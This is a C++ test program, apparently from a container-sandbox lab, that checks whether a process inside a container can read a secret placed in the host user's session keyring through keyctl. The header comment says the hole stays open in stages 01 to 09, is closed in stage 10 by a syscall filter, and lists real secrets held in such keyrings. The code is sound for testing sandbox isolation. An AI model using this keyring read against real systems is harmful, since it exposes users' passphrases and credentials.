// Reads a key of the one who started the container: a process inherits its session keyring, keyrings(7),
// as it does its terminal, and no namespace takes that away. Works in 01 to 09. 10 closes it, where
// the filter refuses keyctl(2), add_key(2) and request_key(2).
//
//   /escape                             inside; exit status 0: escaped, 1: held
//   escape-keyctl SECRET COMMAND...     outside: becomes COMMAND, in a session of its own that has
//                                       SECRET in its keyring: both go with the session
//
// What lies there: passphrases of encrypted directories, Kerberos tickets, keys of network file systems.

#include <linux/keyctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>

namespace {

constexpr const char* kType = "user";
constexpr const char* kName = "lab-escape";

int become_host(char** arguments) {
  const char* secret = arguments[0];
  if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, nullptr) == -1 ||
      syscall(SYS_add_key, kType, kName, secret, std::strlen(secret), KEY_SPEC_SESSION_KEYRING) ==
          -1) {
    std::perror("add_key");
    return 125;
  }
  execvp(arguments[1], arguments + 1);
  std::perror(arguments[1]);
  return 125;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc > 2) return become_host(argv + 1);

  const long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, kType, kName, 0);
  char text[256];
  const long size = key == -1 ? -1 : syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof text);
  if (size == -1) {
    std::perror("held: keyctl");
    return 1;
  }
  std::printf("escaped: a key of the host says: %.*s\n", static_cast<int>(size), text);
  return 0;
}
